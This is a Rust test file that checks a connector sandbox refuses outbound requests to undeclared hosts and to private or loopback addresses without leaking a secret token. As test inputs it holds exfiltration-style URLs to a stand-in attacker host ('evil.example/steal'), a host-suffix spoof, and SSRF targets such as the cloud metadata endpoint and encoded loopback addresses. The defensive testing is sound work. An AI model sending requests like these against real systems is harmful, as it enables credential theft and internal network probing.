//! Egress: requests to undeclared hosts and private addresses are refused without connecting.

use super::*;

/// A connector that declares `hosts` and whose `fetch` action GETs `input.url`, sending the
/// secret token as a bearer token.
fn fetcher(hosts: &[String]) -> String {
    let hosts: Vec<String> = hosts.iter().map(|h| format!("{h:?}")).collect();
    format!(
        r#"export default {{
  title: "Fetcher",
  allowed_hosts: [{}],
  connection: {{
    fields: [{{ name: "token", control_type: "password" }}],
    authorization: {{ type: "bearer", token: (connection) => connection.token }},
  }},
  actions: {{
    fetch: {{
      title: "Fetch",
      input_fields: [{{ name: "url" }}],
      execute: (connection, input) => get(input.url),
    }},
  }},
}};
"#,
        hosts.join(", ")
    )
}

/// `runAction` of `fetch` on `url`; returns the run.
async fn fetch(app: &TestApp, token: &str, copy: &Value, url: &str) -> anyhow::Result<Value> {
    run(
        app,
        token,
        "runAction",
        json!({ "target": { "workspaceConnectorId": copy, "connectionValues": { "token": SECRET } },
                "action": "fetch", "input": { "url": url } }),
    )
    .await
}

fn assert_denied(run: &Value, url: &str) {
    assert_eq!(run["ok"], false, "{run}");
    assert_eq!(run["error"]["code"], "EGRESS_DENIED", "{run}");
    assert!(run["error"]["line"].is_number(), "{run}");
    assert_eq!(trace_lines(run), [json!(["GET", url, null, true])], "{run}");
    assert!(!run.to_string().contains(SECRET), "{run}");
}

async fn egress(backend: Backend) -> anyhow::Result<()> {
    // A server that may reach private networks, with an override for a host the connector
    // does not declare: an undeclared host is still refused, and nothing is connected to.
    let mock = Mock::start()?;
    let trip = Tripwire::start()?;
    let app = TestApp::spawn_with(
        backend,
        point_at(&[("api.github.com", mock.addr), ("evil.example", trip.addr)]),
    )
    .await?;
    let author = app.user_with_token("author").await?;
    let dev = app.user_with_token("dev").await?;
    create_listing(
        &app,
        &author,
        "fetcher",
        "1.0.0",
        &fetcher(&["api.github.com".to_owned()]),
    )
    .await?;
    create_workspace(&app, &dev, "lab").await?;
    let copy = install(&app, &dev, "lab", "fetcher").await?;
    mock.route("GET", "/ok", Reply::Json(200, json!({ "fine": true })));
    let allowed = run_ok(
        &app,
        &dev,
        "runAction",
        json!({
        "target": { "workspaceConnectorId": copy, "connectionValues": { "token": SECRET } },
        "action": "fetch", "input": { "url": "https://api.github.com/ok" } }),
    )
    .await?;
    assert_eq!(allowed["output"], json!({ "fine": true }));
    let before = mock.connections();
    for url in [
        "https://evil.example/steal",
        "http://evil.example/steal",
        "https://api.github.com.evil.example/x",
    ] {
        let denied = fetch(&app, &dev, &copy, url).await?;
        assert_denied(&denied, url);
    }
    assert_eq!(trip.hits(), 0, "an undeclared host was connected to");
    assert_eq!(mock.connections(), before);

    // A server with the default sandbox: private and loopback addresses are refused even when
    // the connector declares them, and nothing is connected to.
    let strict = TestApp::spawn(backend).await?;
    let author = strict.user_with_token("author").await?;
    let dev = strict.user_with_token("dev").await?;
    let port = trip.addr.port();
    let hosts = vec![
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("2130706433:{port}"),
        "169.254.169.254".to_owned(),
        "10.0.0.1".to_owned(),
    ];
    create_listing(&strict, &author, "intranet", "1.0.0", &fetcher(&hosts)).await?;
    create_workspace(&strict, &dev, "lab").await?;
    let copy = install(&strict, &dev, "lab", "intranet").await?;
    for url in [
        format!("http://127.0.0.1:{port}/admin"),
        format!("http://localhost:{port}/admin"),
        format!("http://2130706433:{port}/admin"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "http://10.0.0.1/".to_owned(),
    ] {
        let denied = fetch(&strict, &dev, &copy, &url).await?;
        assert_eq!(denied["error"]["code"], "EGRESS_DENIED", "{url}: {denied}");
        assert!(denied["trace"][0]["status"].is_null(), "{denied}");
        assert!(denied["trace"][0]["error"].is_string(), "{denied}");
    }
    assert_eq!(trip.hits(), 0, "a private address was connected to");
    strict.stop().await?;
    app.stop().await
}

tests::on_both_backends!(
    egress_to_undeclared_hosts_and_private_addresses_is_denied,
    super::egress
);
